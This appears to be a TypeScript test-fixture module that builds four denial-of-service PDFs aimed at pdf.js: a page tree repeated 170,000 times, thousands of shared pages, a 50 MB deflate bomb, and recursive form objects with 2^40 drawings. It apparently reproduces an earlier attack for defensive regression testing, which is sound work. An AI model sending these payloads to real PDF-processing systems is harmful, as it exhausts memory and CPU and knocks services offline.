import { deflateSync } from 'node:zlib';

/**
 * PDFs built to hurt a reader, as the attack run against e518e7e sent them (issue 28): each
 * is a well-formed file pdf.js opens, whose reading costs what its size does not suggest.
 */

/** A PDF of the given objects (numbered from 1, the first the catalog), with its xref table. */
function assemble(objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(length);
    const part = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'),
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(part);
    length += part.length;
  });
  const table =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('') +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(table)]);
}

const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const PAGE = (contents: number) =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${contents} 0 R ` +
  '/Resources << /Font << /F1 3 0 R >> >> >>';
const TEXT = Buffer.from('BT /F1 12 Tf 72 720 Td (Quarterly revenue grew.) Tj ET');

/** A page tree whose /Kids lists one page object `times` times (170,000 in about 1 MB). */
export function repeatedPagePdf(times = 170_000): Buffer {
  const kids = '5 0 R '.repeat(times);
  return assemble([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${times} >>`,
    FONT,
    stream('', TEXT),
    PAGE(4),
  ]);
}

/** `count` distinct pages sharing one content stream (7,500 in under 1 MB). */
export function manyPagesPdf(count = 7_500): Buffer {
  // Each page inherits its box and resources from the tree, to fit many in 1 MB.
  const pages = Array.from(
    { length: count },
    () => '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>',
  );
  const kids = pages.map((_, i) => `${i + 5} 0 R`).join(' ');
  return assemble([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} /MediaBox [0 0 612 792] ` +
      '/Resources << /Font << /F1 3 0 R >> >> >>',
    FONT,
    stream('', TEXT),
    ...pages,
  ]);
}

/** One page whose Flate content stream of about 100 KB unpacks to `bytes` (50 MB). */
export function inflationBombPdf(bytes = 50 * 1024 * 1024): Buffer {
  const packed = deflateSync(Buffer.alloc(bytes, 'q Q\n'), { level: 9 });
  return assemble([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [5 0 R] /Count 1 >>',
    FONT,
    stream('/Filter /FlateDecode', packed),
    PAGE(4),
  ]);
}

/**
 * One page drawing Form XObject 1, each form drawing the next twice, `depth` deep (2^40
 * drawings in 10 KB): pdf.js follows every one.
 */
export function recursiveFormsPdf(depth = 40): Buffer {
  const first = 5; // object number of form 1
  const forms = Array.from({ length: depth }, (_, i) => {
    const last = i === depth - 1;
    const next = `/X${i + 2}`;
    const content = last ? TEXT : Buffer.from(`q ${next} Do Q q ${next} Do Q`);
    const resources = last
      ? '/Resources << /Font << /F1 3 0 R >> >>'
      : `/Resources << /XObject << ${next} ${first + i + 1} 0 R >> /Font << /F1 3 0 R >> >>`;
    return stream(`/Type /XObject /Subtype /Form /BBox [0 0 612 792] ${resources}`, content);
  });
  return assemble([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${first + depth} 0 R] /Count 1 >>`,
    FONT,
    stream('', Buffer.from('q /X1 Do Q')),
    ...forms,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R ` +
      `/Resources << /XObject << /X1 ${first} 0 R >> /Font << /F1 3 0 R >> >> >>`,
  ]);
}
